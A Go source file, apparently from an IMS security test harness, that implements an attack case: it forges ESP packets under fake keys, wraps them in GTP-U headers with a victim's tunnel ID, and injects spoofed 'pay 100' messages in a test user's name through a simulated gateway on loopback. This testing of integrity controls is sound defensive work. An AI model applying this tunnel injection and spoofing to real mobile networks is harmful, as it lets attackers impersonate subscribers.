package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"time"

	"imsafe/proto/aka"
	"imsafe/proto/esp"
	"imsafe/proto/secagree"
	"imsafe/secure"
)

// bearerHijack: whoever reaches a packet gateway can put packets into a victim's tunnel. They come out with the victim's address.
func bearerHijack() Attack {
	return Attack{
		ID: "ci.bearer.hijack", Number: "MG-02", Title: "packets with the victim's address out of a diverted GTP tunnel",
		Text:     "an address that the bearer vouches for would be taken for the victim",
		Services: []Service{Authentication}, Stride: Spoofing, Threats: []Threat{Removal, Corruption}, Module: InfrastructureUser,
		Source: "TS 33.203 6.3; TS 29.281 5.1", Access: []Access{IPsec}, Profile: "legacy",
		Bounds:   Bounds{Packets: 40, Bytes: 60_000, Conns: 3, Time: 3 * time.Second},
		Variants: []Variant{{Position: OnPath, Run: divert, Controls: []secure.ControlID{secure.CIIntegrityESP}}},
	}
}

// divert says something in carol's name through her tunnel. The attacker reads the bearer, so he knows SPIs, ports and numbers, and as she has
// no encryption, what her requests look like. He has no key.
func divert(ctx context.Context, f *Field, o *Outcome) error {
	carol, err := f.witness(ctx, Carol, nil)
	if err != nil {
		return err
	}
	unencrypted := secagree.Profile{Suites: []secagree.Suite{{Mechanism: secagree.IPsec3GPP, Alg: secagree.AlgSHA1, EAlg: secagree.EAlgNull}}}
	answer, err := carol.RegisterAs(ctx, Registering{User: carol.User, Expires: 600, Agreement: Agreement{Profile: unencrypted}})
	if err != nil || answer.Status() != 200 {
		return fmt.Errorf("attack: carol could not register: %w", errors.Join(err, ErrSilence))
	}
	s, err := carol.tunnel()
	if err != nil {
		return err
	}
	forged, err := f.forger(s)
	if err != nil {
		return err
	}
	out, err := f.attacker.Dial(ctx, "udp", netip.Addr{}, f.NAT)
	if err != nil {
		return err
	}
	defer out.Close()
	said := "pay 100 " + f.token()
	for range 20 {
		packet, err := forged(carol.Message(f.Bob.IMPU, said))
		if err != nil {
			return err
		}
		if err := (gateway{out}).receive(gpdu(packet)); err != nil {
			return err
		}
	}
	// Alice speaks behind the attack: if it succeeds, answers to carol go to the attacker from now on.
	heard, err := f.behindAlice(ctx, said)
	if err != nil {
		return err
	}
	reached := strings.Contains(strings.Join(heard, "\n"), said)
	if reached {
		o.Users = 1
	}
	o.Peer(reached, "20 packets out of carol's tunnel say %q; bob reads %d messages that she did not send", said[:len("pay 100")], len(heard))
	return nil
}

// behindAlice lets alice write to bob when the attack is over, and returns what he reads up to that, and for a moment on if what was said has not come.
func (f *Field) behindAlice(ctx context.Context, said string) (heard []string, err error) {
	behind := f.token()
	if err := f.Alice.UE.SendMessage(ctx, f.Bob.IMPU, "text/plain", []byte(behind)); err != nil {
		return nil, err
	}
	return f.Bob.until(ctx, behind, said)
}

// until reads messages up to one, and for a moment on if another has not come yet: what two clients say runs on different threads of the target,
// so that on a busy host what was said first may be the later one. It returns all but the one.
func (p *Party) until(ctx context.Context, behind, other string) (heard []string, err error) {
	for {
		m, err := p.Next(ctx)
		if err != nil {
			return nil, err
		}
		if string(m.Body) == behind {
			break
		}
		heard = append(heard, string(m.Body))
	}
	_ = within(ctx, soon/3, func(ctx context.Context) error { // silence is what is hoped for
		for !strings.Contains(strings.Join(heard, "\n"), other) {
			m, err := p.Next(ctx)
			if err != nil {
				return err
			}
			heard = append(heard, string(m.Body))
		}
		return nil
	})
	return heard, nil
}

// forger makes packets that look like carol's next ones, under keys that are not hers.
func (f *Field) forger(s *sealed) (func(message string) ([]byte, error), error) {
	engine := esp.New(esp.Config{Random: f.Random})
	transform, _ := esp.TransformOf(s.chosen.Alg, s.chosen.EAlg)
	spi, err := engine.Reserve(s.local())
	if err != nil {
		return nil, err
	}
	own := endsOf(&s.own)
	own.SPI = spi // where answers come is of no interest
	var ck aka.CK
	var ik aka.IK
	for _, key := range [][]byte{ck[:], ik[:]} {
		if _, err := io.ReadFull(f.Random, key); err != nil {
			return nil, err
		}
	}
	ref, err := engine.Install(&esp.Agreement{Role: esp.UE, Local: s.local(), Peer: s.f.Gm.Addr(), Here: own, There: endsOf(&s.chosen), Transform: transform,
		CK: ck, IK: ik, Tunnel: true, PeerPort: s.f.NAT.Port(), Inner: s.local()})
	if err != nil {
		return nil, err
	}
	for range 100 { // numbers that carol has not come to
		if _, _, err := engine.SealUDP(nil, ref, esp.Client, []byte("x")); err != nil {
			return nil, err
		}
	}
	return func(message string) ([]byte, error) {
		packet, _, err := engine.SealUDP(nil, ref, esp.Client, []byte(message))
		return packet, err
	}, nil
}

// gpdu is a packet in a GTP-U tunnel (TS 29.281 5.1): version 1, message type 255, its length and the victim's TEID.
func gpdu(packet []byte) []byte {
	const teid = 0x1001
	b := binary.BigEndian.AppendUint16([]byte{0x30, 0xff}, uint16(len(packet)))
	return append(binary.BigEndian.AppendUint32(b, teid), packet...)
}

// gateway is a packet gateway that lets anybody into its tunnels: it takes the GTP-U header off and sends what was in it on, from the
// address of the subscriber, which on loopback is everybody's.
type gateway struct{ out net.Conn }

// receive takes a packet of a tunnel.
func (g gateway) receive(p []byte) error {
	if len(p) < 8 || p[1] != 0xff || int(binary.BigEndian.Uint16(p[2:])) != len(p)-8 {
		return errNoGPDU
	}
	_, err := g.out.Write(p[8:])
	return err
}

// errNoGPDU is a defect of the driver.
var errNoGPDU = errors.New("attack: no G-PDU")
